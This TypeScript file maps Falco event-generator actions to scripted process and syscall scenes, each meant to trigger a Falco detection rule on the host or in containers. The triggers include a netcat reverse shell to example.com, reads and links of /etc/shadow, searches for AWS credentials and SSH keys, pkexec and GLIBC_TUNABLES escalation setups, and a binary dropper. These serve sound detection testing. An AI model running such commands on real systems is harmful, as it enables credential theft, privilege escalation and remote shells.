// SPDX-License-Identifier: Apache-2.0
// The actions of Falco's event-generator as scenes: what each does, and where. An action is named after its rule. Those of `go` are
// performed by a static Go program, the others by the stage in C.
import type { Line, Wings, Word } from "./falco-stage.js";

// The network in which they are performed has these addresses, which rules take for others than its own.
export const ADDRESSES = ["203.0.113.1", "169.254.169.254"];

export type Place =
  | "machine"
  | "container"
  | "container with SYS_ADMIN"
  | "privileged container"
  | "container without a seccomp profile";

export interface Action {
  name: string; // the rule's, without what is no letter or digit
  place: Place;
  scene(wings: Wings): Line[];
}

const DAEMON: Line[] = [
  ["call", 106, 1], // setgid
  ["call", 105, 1], // setuid
];
const CWD = -100;
const [READ, CREATE] = [0, 0o1101];

// A program of that name, which does nothing more.
const exec =
  (name: string, ...args: Word[]) =>
  (wings: Wings): Line[] => [["proc", wings.program(name), name, ...args]];
// A chain of programs, each the parent of the next; the last plays `then`.
const chain =
  (names: readonly string[], then: Line[] = []) =>
  (wings: Wings): Line[] => [...names.map((name): Line => ["proc", wings.program(name), name]), ...then];
const asDaemon =
  (scene: (wings: Wings) => Line[]) =>
  (wings: Wings): Line[] => [["proc", wings.program("eg_daemon"), "eg_daemon"], ...DAEMON, ...scene(wings)];
const go =
  (action: string, name = "eg_go") =>
  (wings: Wings): Line[] => [["proc", wings.program(name, "falco_actions"), name, action, wings.room()]];

const MACHINE: Record<string, (wings: Wings) => Line[]> = {
  CreateHardlinkOverSensitiveFiles: (wings) => [
    ["proc", wings.program("ln"), "ln", "-v", "/etc/shadow", "shadow_link"],
    ["call", 265, CWD, "s/etc/shadow", CWD, `s${wings.room()}/shadow_link`, 0],
  ],
  CreateSymlinkOverSensitiveFiles: (wings) => [
    ["proc", wings.program("ln"), "ln", "-s", "/etc", "etc_link"],
    ["call", 266, "s/etc", CWD, `s${wings.room()}/etc_link`],
  ],
  DbProgramSpawnedProcess: chain(["mysqld", "ls"]),
  DetectCryptoMinersUsingTheStratumProtocol: exec("echo", "-o", "stratum+tcp", "-u", "user", "-p", "pass"),
  ExecutionFromDevShm: exec("sh", "-c", "/dev/shm/eg.sh"),
  FilelessExecutionViaMemfdCreate: () => [["memory", "program"]],
  FindAwsCredentials: exec("find", "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"),
  LaunchSuspiciousNetworkToolOnHost: exec("nmap", "-sn", "172.17.0.1/32"),
  NonSudoSetuid: asDaemon(chain(["child"], [["call", 105, 0]])),
  PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034: asDaemon(exec("pkexec")),
  PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse: (wings) => [
    ["proc", "/usr/bin/env", "env", "GLIBC_TUNABLES=glibc.malloc.check=1", wings.program("sh"), "-c", "id"],
  ],
  ProgramRunWithDisallowedHttpProxyEnv: (wings) => [
    ["proc", "/usr/bin/env", "env", "HTTP_PROXY=http://127.0.0.1:1", wings.program("curl"), "http://example.com"],
  ],
  PtraceAntiDebugAttempt: chain(["eg_debug"], [["call", 101, 0, 0, 0, 0]]),
  PtraceAttachedToProcess: chain(
    ["eg_debug"],
    [
      ["call", 39],
      ["call", 101, 16, "r0", 0, 0],
    ],
  ),
  ReadSensitiveFileTrustedAfterStartup: chain(
    ["httpd"],
    [
      ["wait", 6000],
      ["call", 257, CWD, "s/etc/shadow", READ],
    ],
  ),
  RemoveBulkDataFromDisk: exec("shred", "-u", "eg_file"),
  RunShellUntrusted: chain(["httpd", "bash"]),
  ScheduleCronJobs: exec("crontab", "-l"),
  SearchPrivateKeysOrPasswords: exec("find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa"),
  SetSetuidOrSetgidBit: (wings) => {
    const path = `${wings.room()}/eg_setuid`;
    return [
      ["proc", wings.program("chmod"), "chmod", "u+s", path],
      ["call", 257, CWD, `s${path}`, CREATE, 0o644],
      ["call", 268, CWD, `s${path}`, 0o4755],
    ];
  },
  SudoPotentialPrivilegeEscalation: asDaemon(exec("sudoedit", "-u", "daemon", "-s", "ls\\")),
  SystemUserInteractive: asDaemon(exec("login")),
  UnexpectedUDPTraffic: chain(
    ["nc"],
    [
      ["call", 41, 2, 2, 0],
      ["call", 42, "r0", "b02000016cb0071010000000000000000", 16],
    ],
  ),
  UserMgmtBinaries: chain(["vipw", "ls"]),
  ...Object.fromEntries(
    [
      "AddingSshKeysToAuthorizedKeys",
      "ChangeThreadNamespace",
      "ClearLogActivities",
      "CreateFilesBelowDev",
      "CreateHiddenFilesOrDirectories",
      "DeleteOrRenameShellHistory",
      "DirectoryTraversalMonitoredFileRead",
      "MkdirBinaryDirs",
      "ModifyBinaryDirs",
      "ModifyShellConfigurationFile",
      "ReadSensitiveFileUntrusted",
      "ReadShellConfigurationFile",
      "ReadSshInformation",
      "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
      "WriteBelowBinaryDir",
      "WriteBelowEtc",
      "WriteBelowMonitoredDir",
      "WriteBelowRoot",
      "WriteBelowRpmDatabase",
    ].map((name) => [name, go(name)]),
  ),
  DisallowedSSHConnectionNonStandardPort: go("DisallowedSSHConnectionNonStandardPort", "ssh"),
  InterpretedProcsInboundNetworkActivity: go("InterpretedProcsInboundNetworkActivity", "lua"),
  InterpretedProcsOutboundNetworkActivity: go("InterpretedProcsOutboundNetworkActivity", "lua"),
  JavaProcessClassFileDownload: go("JavaProcessClassFileDownload", "java"),
  SystemProcsNetworkActivity: go("SystemProcsNetworkActivity", "sha1sum"),
};

const CONTAINER: Record<string, (wings: Wings) => Line[]> = {
  ContainerDriftDetectedChmod: go("ContainerDriftDetectedChmod"),
  ContainerDriftDetectedOpenCreate: go("ContainerDriftDetectedOpenCreate"),
  ContactEC2InstanceMetadataServiceFromContainer: go("ContactEC2InstanceMetadataServiceFromContainer"),
  DropAndExecuteNewBinaryInContainer: (wings) => [
    ["proc", wings.program("eg_dropper"), "eg_dropper"],
    ["call", 257, CWD, `s${wings.program("eg_dropper")}`, READ],
    ["call", 257, CWD, `s${DROPPED}`, CREATE, 0o755],
    ["call", 40, "r1", "r0", 0, SIZE_MAX], // sendfile
    ["call", 3, "r1"],
    ["proc", DROPPED, "eg_dropped"],
  ],
  DecodingPayloadInContainer: exec("bash", "-c", "echo", "ZWNobw==", "|", "base64", "-d"),
  KubernetesClientToolLaunchedInContainer: exec("kubectl"),
  LaunchIngressRemoteFileCopyToolsInContainer: exec("wget", "-V"),
  LaunchPackageManagementProcessInContainer: exec("apk", "version"),
  LaunchRemoteFileCopyToolsInContainer: exec("scp"),
  LaunchSuspiciousNetworkToolInContainer: exec("nmap", "-sn", "192.168.1.0/24"),
  ModifyContainerEntrypoint: go("ModifyContainerEntrypoint"),
  NetcatRemoteCodeExecutionInContainer: exec("nc", "-e", "/bin/sh", "example.com", 22),
  PacketSocketCreatedInContainer: go("PacketSocketCreatedInContainer"),
  ReadEnvironmentVariableFromProcFiles: chain(["cat"], [["call", 257, CWD, "s/proc/self/environ", READ]]),
};

const DROPPED = "/srv/eg_dropped";
const SIZE_MAX = 1 << 24;
const CLONE_NEWUSER = 0x10000000;

const ADMIN: Record<string, (wings: Wings) => Line[]> = {
  DetectReleaseAgentFileContainerEscapes: (wings) =>
    chain(["sh"], [["call", 257, CWD, `s${wings.room()}/release_agent`, CREATE, 0o644]])(wings),
};

const PRIVILEGED: Record<string, (wings: Wings) => Line[]> = {
  DebugfsLaunchedInPrivilegedContainer: exec("debugfs", "-V"),
  MountLaunchedInPrivilegedContainer: exec("mount", "-o", "ro"),
};

// Docker's profile refuses the call, and what another filter refuses is not seen.
const UNCONFINED: Record<string, (wings: Wings) => Line[]> = {
  ChangeNamespacePrivilegesViaUnshare: chain(["unshare"], [["call", 272, CLONE_NEWUSER]]),
};

const PLACES: readonly (readonly [Place, Record<string, (wings: Wings) => Line[]>])[] = [
  ["machine", MACHINE],
  ["container", CONTAINER],
  ["container with SYS_ADMIN", ADMIN],
  ["privileged container", PRIVILEGED],
  ["container without a seccomp profile", UNCONFINED],
];

export const ACTIONS: readonly Action[] = PLACES.flatMap(([place, scenes]) =>
  Object.entries(scenes).map(([name, scene]) => ({ name, place, scene })),
);
